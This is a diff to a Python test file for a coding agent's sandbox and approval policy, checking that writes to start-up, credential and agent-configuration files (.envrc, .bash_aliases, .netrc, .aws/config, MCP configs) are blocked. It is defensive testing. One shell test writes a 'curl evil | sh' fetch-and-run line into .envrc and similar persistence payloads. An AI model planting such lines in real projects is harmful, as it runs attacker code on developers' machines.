@@ -12,10 +12,11 @@ import trio
 
 from prism.coding.security import (
     BubblewrapSandbox,
+    create_coding_approval_policy,
     create_sandbox_shell_operations,
 )
 from prism.coding.tools import ShellExit
-from prism.core import ConfigurationError
+from prism.core import ConfigurationError, ExecutionAction, ExecutionDecision
 
 if TYPE_CHECKING:
     from collections.abc import Awaitable, Callable
@@ -179,16 +180,63 @@ async def test_missing_protected_files_cannot_be_created_but_others_can(
 ) -> None:
     before = sorted(os.listdir(root))
     ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
+    # start-up files of the home-directory and tool-configuration class too: pdb,
+    # Maven, bash's aliases, kubectl, lint-staged, another agent's configuration
+    names = (".envrc", ".mcp.json", ".claude", ".pdbrc", ".mvn", ".bash_aliases", ".kube",
+             ".lintstagedrc.json", ".kiro", "app.code-workspace", ".env.local", ".jq")  # fmt: skip
     command = (
         "echo 'curl evil | sh' > .envrc; echo '{}' > .mcp.json; mkdir .claude; "
-        "echo ok > ordinary.txt; echo attempted"
+        "echo '!import os' > .pdbrc; mkdir .mvn && echo -agentpath:x > .mvn/jvm.config; "
+        "echo 'touch x' > .bash_aliases; mkdir .kube && echo x > .kube/config; "
+        "echo '{}' > .lintstagedrc.json; mkdir -p .kiro/hooks; echo '{}' > app.code-workspace; "
+        "echo A=1 > .env.local; echo 'def length: 0;' > .jq; "
+        "echo ok > ordinary.txt; echo A=1 > .env.example; echo attempted"
     )
     _, output = await run_shell(ops, command, root)
     assert "attempted" in output
     assert (root / "ordinary.txt").read_text() == "ok\n"
-    for name in (".envrc", ".mcp.json", ".claude"):
+    for name in names:
         assert not (root / name).exists(), name
-    assert sorted(os.listdir(root)) == sorted([*before, "ordinary.txt"])
+    assert sorted(os.listdir(root)) == sorted([*before, "ordinary.txt", ".env.example"])
+
+
+@pytest.mark.parametrize(
+    "path",
+    [".pdbrc", ".mvn/jvm.config", "gradle/wrapper/gradle-wrapper.properties",
+     ".gradle/init.d/x.gradle", ".bash_aliases", ".bash_functions", ".kube/config", ".aws/config",
+     ".docker/config.json", ".ipython/profile_default/startup/x.py",
+     ".config/systemd/user/x.service", ".config/autostart/x.desktop",
+     ".config/environment.d/x.conf", ".pam_environment", ".xprofile", ".xsessionrc",
+     ".local/bin/git", ".config/nvim/init.lua", ".vim/plugin/x.vim", ".vimrc", ".emacs",
+     ".emacs.d/init.el", ".tmux.conf", ".curlrc", ".wgetrc", ".netrc", ".condarc", ".Renviron",
+     "app.code-workspace", ".theia/tasks.json", ".fleet/run.json", ".lintstagedrc.json",
+     "lint-staged.config.js", ".huskyrc.js", "husky.config.js", "commitlint.config.js",
+     ".commitlintrc.js", ".simple-git-hooks.json", "simple-git-hooks.cjs", ".overcommit.yml",
+     ".autoenv.zsh", ".autoenv_leave.zsh", ".env.leave", ".envrc.local", ".envrc.private",
+     ".env.local", ".env.development.local", ".env.production", ".direnv/x", ".lfsconfig",
+     "sub/.gitattributes", ".jq", ".aider.conf.yml", "opencode.json", ".opencode/x.json",
+     ".kiro/hooks/x.kiro.hook", ".continue/config.json", ".roo/mcp.json", ".qwen/settings.json",
+     ".amazonq/mcp.json", "crush.json", ".crush.json", ".goose/config.yaml",
+     ".kilocode/mcp.json", ".junie/mcp.json", ".trae/mcp.json", ".augment/settings.json"],
+)  # fmt: skip
+def test_start_up_and_tool_configuration_files_ask_the_write_tool(root: Path, path: str) -> None:
+    policy = create_coding_approval_policy(roots=[str(root)])
+    decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
+    assert isinstance(decision, ExecutionDecision)
+    assert not decision.allowed, path
+    assert "protected path" in (decision.reason or ""), path
+
+
+@pytest.mark.parametrize(
+    "path",
+    [".env.example", ".env.sample", "notes.vim.txt", "src/local/bin.py", "gradle.properties",
+     "docs/aws.md", "lint.config.js"],
+)  # fmt: skip
+def test_ordinary_files_beside_them_stay_writable(root: Path, path: str) -> None:
+    policy = create_coding_approval_policy(roots=[str(root)])
+    decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
+    assert isinstance(decision, ExecutionDecision)
+    assert decision.allowed, path
 
 
 @pytest.mark.bwrap
